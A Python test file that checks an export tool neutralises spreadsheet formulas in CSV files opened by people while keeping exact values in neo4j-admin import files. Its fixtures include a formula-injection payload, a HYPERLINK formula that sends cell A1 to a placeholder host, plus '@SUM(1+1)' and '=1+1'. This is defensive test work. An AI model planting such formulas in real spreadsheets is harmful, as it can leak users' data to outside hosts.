"""Every CSV written for people opens in Excel as text: UTF-8 with BOM, and no cell runs as a formula.

A name like ``=HYPERLINK(…)`` in a catalyst's spreadsheet must come out as text in
every CSV a person opens (exports, the validation report), while the files read by
tools that need the exact value (neo4j-admin) keep it as is.
"""

from __future__ import annotations

import csv
import subprocess
import sys

from ecosysteme.export import export_model
from ecosysteme.io import load_valid

FORMULA = '=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")'
ACTEURS = ("id;nom;type;monde;echelon;territoires\n"
           f"a;\"{FORMULA.replace(chr(34), chr(34) * 2)}\";association;associations;local;commune:29151\n"
           "b;@SUM(1+1);financeur;investisseurs_societaux;regional;region:53\n")
RELATIONS = "source;cible;type;montant\nb;a;financement;1500,5\n"


def _rows(path, delimiter):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), path.name  # the BOM Excel needs to read UTF-8
    return list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=delimiter))


def _cells(rows):
    return [c for row in rows[1:] for c in row]


def test_exports_for_people_neutralise_formulas_and_tools_keep_values(tmp_path):
    src = tmp_path / "jeu"
    src.mkdir()
    (src / "acteurs.csv").write_text(ACTEURS, encoding="utf-8")
    (src / "relations.csv").write_text(RELATIONS, encoding="utf-8")
    model = load_valid(src, dataset="formules")
    assert model.actors["a"].name == FORMULA
    out = tmp_path / "sortie"
    export_model(model, out, ["csv", "gephi", "kumu", "neo4j-admin"])
    people = [p for p in out.rglob("*.csv") if "neo4j" not in str(p.relative_to(out))]
    assert len(people) >= 6, people
    for path in people:
        cells = _cells(_rows(path, ";" if path.name in ("noeuds.csv", "liens.csv") else ","))
        assert not [c for c in cells if c and c[0] in "=+@"], (path.name, cells)
        if any("HYPERLINK" in c for c in cells):
            assert "'" + FORMULA in cells, path.name
    # The amount stays a number, in the French form of noeuds/liens.
    assert "1500,5" in _cells(_rows(out / "liens.csv", ";"))
    # neo4j-admin imports the exact value (Neo4j is no spreadsheet).
    tools = [p for p in out.rglob("*.csv") if p not in people]
    assert tools and any(FORMULA in _cells(_rows(p, ",")) for p in tools)


def test_validation_report_in_csv_neutralises_the_user_values(tmp_path):
    src = tmp_path / "jeu"
    src.mkdir()
    (src / "acteurs.csv").write_text("id;nom;type;monde;echelon;territoires\n"
                                     "a;Asso;association;=1+1;local;commune:29151\n", encoding="utf-8")
    report = tmp_path / "rapport.csv"
    done = subprocess.run([sys.executable, "-m", "ecosysteme", "validate", str(src), "--format", "csv",
                           "--sortie", str(report)], capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 1, done.stderr
    rows = _rows(report, ";")
    values = [row[rows[0].index("valeur")] for row in rows[1:]]
    assert "'=1+1" in values and "=1+1" not in values
